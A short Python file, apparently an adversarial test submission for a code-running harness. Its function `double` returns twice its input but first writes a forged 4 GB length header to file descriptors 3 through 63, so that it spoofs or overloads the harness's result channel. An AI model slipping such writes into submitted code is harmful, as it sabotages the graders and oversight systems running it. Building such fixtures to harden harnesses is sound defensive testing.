"""An answer that says it is four thousand megabytes long."""

import os


def double(x):
    for fd in range(3, 64):
        try:
            os.write(fd, b"\xff\xff\xff\xff" + bytes(100))
        except OSError:
            continue
    return 2 * x
